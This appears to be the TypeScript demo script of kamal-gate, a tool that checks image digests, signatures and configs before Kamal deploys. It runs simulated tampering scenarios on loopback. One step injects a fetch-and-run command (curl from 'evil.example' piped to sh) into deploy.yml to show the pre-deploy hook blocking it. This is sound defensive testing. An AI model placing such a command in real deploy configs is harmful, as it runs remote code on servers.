/**
 * `npm run demo`: a registry on loopback, a sample Kamal app pushed to it, and kamal-gate run on
 * it through its real CLI. Every step prints the command a reader can run themselves. It ends on two
 * deploy hosts (sshd + dockerd on loopback) where the installed pre-deploy hook stops a deploy
 * because one host holds another image than the one the gate verified.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { generateKeyPairSync } from 'node:crypto';
import { pushLegacy, signPayload, simpleSigning } from '../test/helpers/cosign-format.js';
import { startHosts, tarLayer } from '../test/helpers/hosts.js';
import { ImageBuilder } from '../test/helpers/image-builder.js';
import { blobFile, startRegistry } from '../test/helpers/registry.js';

const root = resolve(import.meta.dirname, '..');
const cli = join(root, 'dist', 'cli.js');
const bold = (s: string) => (process.stdout.isTTY ? `\x1b[1m${s}\x1b[0m` : s);

function step(title: string): void {
  console.log(`\n${bold(`== ${title}`)}`);
}

function kamalGate(args: string[], cwd: string, env: NodeJS.ProcessEnv): number {
  console.log(`$ kamal-gate ${args.join(' ')}`);
  const r = spawnSync(process.execPath, [cli, ...args], { cwd, env, stdio: 'inherit' });
  console.log(`(exit ${r.status})`);
  return r.status ?? 3;
}

/** Runs the installed pre-deploy hook as Kamal does (`/usr/bin/env .kamal/hooks/pre-deploy` in the app, with Kamal's hook variables). */
function preDeployHook(cwd: string, env: NodeJS.ProcessEnv): number {
  console.log(`$ KAMAL_VERSION=${env['KAMAL_VERSION']} KAMAL_HOSTS=${env['KAMAL_HOSTS']} .kamal/hooks/pre-deploy   # as kamal deploy runs it, after every host pulled`);
  const r = spawnSync('/usr/bin/env', ['.kamal/hooks/pre-deploy'], { cwd, env, stdio: 'inherit' });
  console.log(`(exit ${r.status})`);
  return r.status ?? 3;
}

/**
 * The deploy's hosts (sshd + dockerd on loopback, the test harness): after Kamal's pull, the
 * pre-deploy hook checks what each host holds; a host that got another image stops the deploy.
 */
async function hostsStep(expect: (what: string, code: number, want: number) => void): Promise<void> {
  step('A deploy to two hosts (sshd + dockerd on loopback): Kamal pulled the image on both; the pre-deploy hook checks what each host holds');
  const reg = await startRegistry({ auth: 'none' });
  const h = await startHosts({ count: 2, engines: 2 });
  const app = mkdtempSync(join(tmpdir(), 'kamal-gate-demo-hosts-'));
  try {
    const builder = new ImageBuilder(reg);
    const image = (id: string) => ({ layers: [tarLayer({ 'etc/build-id': id })], labels: { service: 'shop' }, created: '2026-11-01T00:00:00Z' });
    const shop = await builder.pushImage('acme/shop', 'v1', image('the reviewed build'));
    const other = await builder.pushImage('acme/shop', 'other', image('something else'));
    mkdirSync(join(app, 'config'));
    writeFileSync(
      join(app, 'config', 'deploy.yml'),
      `service: shop\nimage: acme/shop\nservers:\n  web:\n    hosts: [host1, host2]\nregistry:\n  server: ${reg.host}\n  username: demo\n  password: unused\nbuilder:\n  arch: amd64\nssh:\n  config: ${h.sshConfig}\n`,
    );
    const env: NodeJS.ProcessEnv = { ...process.env, DOCKER_CONFIG: join(app, '.docker'), KAMAL_GATE_CACHE_DIR: join(app, '.cache'), KAMAL_GATE_BIN: cli };
    delete env['KAMAL_VERSION'];
    delete env['VERSION'];
    expect('record (hosts app)', kamalGate(['record', '--version', 'v1'], app, env), 0);
    expect('hook install', kamalGate(['hook', 'install'], app, env), 0);
    const pull = async (engine: number, args: string[]) => {
      const r = await h.docker(engine, args);
      if (r.code !== 0) throw new Error(`docker ${args.join(' ')}: ${r.stderr}`);
    };
    for (const host of h.hosts) await pull(host.engine, ['pull', shop.ref]);
    console.log(`host1, host2: docker pull ${shop.ref} (as Kamal's pull on every host)`);
    const hookEnv = { ...env, KAMAL_VERSION: 'v1', KAMAL_HOSTS: 'host1,host2', KAMAL_COMMAND: 'deploy', KAMAL_SERVICE: 'shop', KAMAL_SERVICE_VERSION: 'shop@v1', KAMAL_PERFORMER: 'demo' };
    expect('pre-deploy hook, hosts hold the gated image', preDeployHook(app, hookEnv), 0);

    step("Someone on the deploy machine injects a cmd into config/deploy.yml: the deploy now differs from what the pipeline approved");
    const deployYml = join(app, 'config', 'deploy.yml');
    const approvedYml = readFileSync(deployYml, 'utf8');
    writeFileSync(deployYml, approvedYml.replace('hosts: [host1, host2]\n', "hosts: [host1, host2]\n    cmd: sh -c 'curl -fsSL https://evil.example/run | sh'\n"));
    // A policy that enforces the config group, as the shipped strict one does (the demo registry takes no password).
    const policyFile = join(app, '.kamal', 'gate-policy.yml');
    writeFileSync(policyFile, 'version: 1\ndefaults:\n  config:\n    mode: enforce\n    ignore: [config.literal_registry_password]\n');
    console.log('.kamal/gate-policy.yml: the config group enforced (a changed config fails, as under policies/strict.yml)');
    expect('config diff, injected cmd', kamalGate(['config', 'diff'], app, env), 1);
    expect('pre-deploy hook, injected cmd', preDeployHook(app, hookEnv), 1);
    console.log('(Kamal stops the deploy: the injected command never runs on a host; approving a config change is `kamal-gate record` in the pipeline)');
    writeFileSync(deployYml, approvedYml);
    rmSync(policyFile);
    console.log('(the config is put back as approved)');

    step('The next deploy: a mirror on host2\'s path hands it another image for the same tag; the registry still answers the gate with the reviewed one');
    await pull(2, ['pull', other.ref]);
    await pull(2, ['tag', other.ref, shop.ref]);
    console.log(`host2 now holds ${shop.ref} → ${other.digest} (the registry says ${shop.digest})`);
    expect('pre-deploy hook, host2 holds another image', preDeployHook(app, hookEnv), 1);
    console.log('(Kamal stops the deploy on a failing pre-deploy hook: no container of this version boots on any host)');
  } finally {
    await h.stop();
    await reg.stop();
    rmSync(app, { recursive: true, force: true });
  }
}

async function main(): Promise<number> {
  const failures: string[] = [];
  const expect = (what: string, code: number, want: number) => {
    if (code !== want) failures.push(`${what}: exit ${code}, expected ${want}`);
  };

  step('A registry on loopback (Debian docker-registry, htpasswd auth)');
  const reg = await startRegistry({ auth: 'htpasswd', users: { demo: `demo-${Math.random().toString(36).slice(2)}` } });
  const app = mkdtempSync(join(tmpdir(), 'kamal-gate-demo-'));
  try {
    console.log(`registry: ${reg.url} (user demo)`);

    step('The sample app is built and pushed (as `kamal build push` would)');
    const builder = new ImageBuilder(reg);
    const amd64 = { os: 'linux', architecture: 'amd64' };
    const arm64 = { os: 'linux', architecture: 'arm64', variant: 'v8' };
    const ago = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString().replace(/\.\d+Z$/, 'Z');
    // The app is built FROM a ruby base that is 300 days old; a newer patch release exists.
    const ruby = await builder.pushImage('library/ruby', '3.3.4-slim', { platforms: [amd64, arm64], created: ago(300), seed: 'ruby-3.3.4' });
    await builder.pushImage('library/ruby', '3.3.6-slim', { platforms: [amd64, arm64], created: ago(40), seed: 'ruby-3.3.6' });
    const shop = await builder.pushImage('acme/shop', 'v1', {
      platforms: [amd64, arm64],
      created: ago(0.05),
      labels: { service: 'shop' },
      base: ruby,
      annotations: { 'org.opencontainers.image.base.name': `${reg.host}/library/ruby:3.3.4-slim`, 'org.opencontainers.image.base.digest': ruby.digest },
    });
    await builder.tagExisting('acme/shop', shop.digest, 'latest');
    // The release pipeline signs what it pushed, as `cosign sign --key` does (legacy .sig tag).
    const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const payload = simpleSigning(`${reg.host}/acme/shop`, shop.digest);
    await pushLegacy(builder, 'acme/shop', shop.digest, [{ payload, annotations: { 'dev.cosignproject.cosign/signature': signPayload(payload, privateKey) } }]);
    const pg = await builder.pushImage('library/postgres', '16.4', { created: '2026-08-14T09:00:00Z' });
    const valkey = await builder.pushImage('library/valkey', '8.0', { platforms: [amd64, arm64], created: '2026-10-02T12:00:00Z' });
    for (const img of [shop, pg, valkey]) console.log(`pushed ${img.ref} → ${img.digest}`);
    console.log(`signed ${shop.pinned} (cosign key pair; the public key goes into the app's .kamal/cosign.pub)`);

    cpSync(join(root, 'fixtures', 'demo-app'), app, { recursive: true });
    writeFileSync(join(app, '.kamal', 'cosign.pub'), publicKey.export({ type: 'spki', format: 'pem' }));
    cpSync(join(root, 'fixtures', 'demo-gate-policy.yml'), join(app, '.kamal', 'gate-policy.yml'));
    const env: NodeJS.ProcessEnv = { ...process.env, DEMO_REGISTRY: reg.host, KAMAL_REGISTRY_PASSWORD: reg.password, DOCKER_CONFIG: join(app, '.docker'), KAMAL_GATE_CACHE_DIR: join(app, '.cache') };
    delete env['KAMAL_VERSION'];
    delete env['VERSION'];
    console.log(`sample Kamal app: ${app} (config/deploy.yml, config/deploy.staging.yml, .kamal/secrets)`);

    step('Which images does this deploy pull? (reads the config; runs nothing, touches no network)');
    expect('targets', kamalGate(['targets', '--version', 'v1'], app, env), 0);

    step('The build pipeline approves what it pushed in the digest ledger (.kamal/image-ledger.jsonl) and signs its head');
    // The checkpoint key is the pipeline's secret: kept outside the app (in CI: KAMAL_GATE_CHECKPOINT_KEY).
    const secrets = mkdtempSync(join(tmpdir(), 'kamal-gate-demo-ci-'));
    const checkpointKey = join(secrets, 'checkpoint.key');
    writeFileSync(checkpointKey, generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }), { mode: 0o600 });
    expect('record', kamalGate(['record', '--version', 'v1', '--checkpoint-key', checkpointKey], app, env), 0);
    rmSync(secrets, { recursive: true, force: true });

    step('Before the deploy: pin every image, check its signature, the ledger and its base image against the app\'s policy (.kamal/gate-policy.yml)');
    expect('verify', kamalGate(['verify', '--version', 'v1', '--stats'], app, env), 0);

    step('An attacker with registry credentials pushes a backdoored image under the same tag');
    const evil = await builder.pushImage('acme/shop', 'v1', { platforms: [amd64, arm64], labels: { service: 'shop' }, seed: 'backdoor', base: ruby });
    console.log(`pushed ${evil.ref} → ${evil.digest}`);
    expect('verify after overwrite', kamalGate(['verify', '--version', 'v1'], app, env), 1);

    step('The scheduled drift check finds it too, over everything in the ledger');
    expect('drift', kamalGate(['drift'], app, env), 1);
    await builder.pushManifest('acme/shop', 'v1', shop.bytes, shop.mediaType);
    console.log(`(the tag is put back to ${shop.digest})`);

    step('An attacker overwrites the postgres accessory tag; the routine `kamal-gate record` refuses to approve it');
    const evilPg = await builder.pushImage('library/postgres', '16.4', { created: '2026-11-30T03:00:00Z', seed: 'evil-postgres' });
    console.log(`pushed ${evilPg.ref} → ${evilPg.digest}`);
    expect('record after accessory overwrite', kamalGate(['record', '--version', 'v1'], app, env), 1);
    await builder.pushManifest('library/postgres', '16.4', pg.bytes, pg.mediaType);
    console.log(`(the tag is put back to ${pg.digest})`);

    step('Someone deletes the last lines of the ledger to erase an approval: the signed checkpoint catches it');
    const ledgerFile = join(app, '.kamal', 'image-ledger.jsonl');
    const ledgerText = readFileSync(ledgerFile, 'utf8');
    writeFileSync(ledgerFile, ledgerText.split('\n').slice(0, 2).join('\n') + '\n');
    console.log('(kept the first 2 entries of .kamal/image-ledger.jsonl)');
    expect('ledger verify after truncation', kamalGate(['ledger', 'verify'], app, env), 2);
    writeFileSync(ledgerFile, ledgerText);
    console.log('(the ledger is restored from version control)');

    step('Someone with access to the registry storage swaps the postgres config blob');
    const blob = blobFile(reg, pg.manifests[0]!.configDigest);
    const original = pg.manifests[0]!.config.bytes;
    writeFileSync(blob, Buffer.from(original.toString('utf8').replace('"amd64"', '"amd65"')));
    // The earlier runs cached the genuine config by its digest, so a plain verify would not even ask
    // the registry for it; --no-cache makes it fetch, and the swapped bytes are refused.
    expect('verify after tampering', kamalGate(['verify', '--version', 'v1', '--no-cache'], app, env), 3);

    await hostsStep(expect);
  } finally {
    await reg.stop();
    rmSync(app, { recursive: true, force: true });
  }

  step(
    failures.length
      ? 'Demo FAILED'
      : 'Done: a signed app passed with its images pinned, a stale base flagged, an overwritten (unsigned) tag caught, a moved accessory refused by record, a truncated ledger caught by its checkpoint, content that did not match its digest refused, and deploys stopped by the pre-deploy hook because a cmd was injected into the approved config and because a host held another image',
  );
  for (const f of failures) console.log(`  ${f}`);
  return failures.length ? 1 : 0;
}

main().then(
  (code) => process.exit(code),
  (e: unknown) => {
    console.error(`demo failed: ${e instanceof Error ? e.message : String(e)}`);
    process.exit(1);
  },
);
